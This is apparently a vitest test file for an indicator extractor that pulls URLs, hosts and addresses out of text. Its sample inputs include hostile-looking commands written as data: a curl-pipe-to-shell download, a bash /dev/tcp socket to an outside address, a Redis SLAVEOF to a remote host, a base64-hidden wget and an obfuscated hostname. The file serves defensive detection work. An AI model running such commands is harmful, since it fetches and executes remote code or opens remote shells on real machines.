import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { observablesIn } from './observables.ts';

const base64 = (text: string): string => Buffer.from(text, 'latin1').toString('base64');
const found = (text: string): string[] => observablesIn(text).map(({ kind, value }) => `${kind} ${value}`);

describe('observables', () => {
  test.for<[string, string, string[]]>([
    [
      'a URL with a port, ended by a pipe',
      'curl -fsSL HTTP://203.0.113.9:8080/A.sh|sh',
      ['url http://203.0.113.9:8080/A.sh', 'address 203.0.113.9', 'endpoint 203.0.113.9:8080'],
    ],
    [
      'a URL with a name, credentials and a full stop behind it',
      'see https://u:p@Files.Example.invalid/x.',
      ['url https://files.example.invalid/x', 'host files.example.invalid'],
    ],
    [
      'an address with a port',
      'SLAVEOF 198.51.100.7:60114',
      ['address 198.51.100.7', 'endpoint 198.51.100.7:60114'],
    ],
    [
      "bash's own sockets",
      'exec 6<>/dev/tcp/203.0.113.9/60114',
      ['address 203.0.113.9', 'endpoint 203.0.113.9:60114'],
    ],
    [
      'what is hidden in base64',
      `echo ${base64('wget http://b.example.invalid/i.sh')} | base64 -d`,
      ['url http://b.example.invalid/i.sh', 'host b.example.invalid'],
    ],
    [
      'a host with backslashes in it',
      'lynx http://b\\.e\\x\\a\\m\\p\\l\\e.invalid/x',
      ['url http://b.example.invalid/x', 'host b.example.invalid'],
    ],
  ])('hold %s', ([, text, expected]) => {
    expect(found(text)).toEqual(expect.arrayContaining(expected));
  });

  test.for<[string, string]>([
    ['versions', 'redis 7.0.15.2.1 and 1.2.3'],
    ['numbers out of range', '300.1.2.3 and 1.2.3.04'],
    ['the machine itself', 'http://127.0.0.1:8500/ 0.0.0.0 255.255.255.255'],
    ['file names', 'see install.sh and /etc/hosts'],
    ['a scheme without a host', 'http:// and ://x'],
  ])('hold nothing of %s', ([, text]) => {
    expect(found(text)).toEqual([]);
  });

  test('are at most 64', () => {
    const text = Array.from({ length: 500 }, (_, at) => `http://h${at}.example.invalid/`).join(' ');

    expect(found(text)).toHaveLength(64);
  });

  test('never throw, and find a URL wherever it stands', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), (bytes) => {
        expect(found(Buffer.from(bytes).toString('latin1')).length).toBeLessThanOrEqual(64);
      }),
    );
    fc.assert(
      fc.property(
        fc.stringMatching(/^[a-z ;|'"]{0,40}$/),
        fc.stringMatching(/^[a-z]{1,12}$/),
        (around, name) => {
          const text = `${around} http://${name}.example.invalid/x ${around}`;

          expect(found(text)).toContain(`host ${name}.example.invalid`);
        },
      ),
    );
  });
});
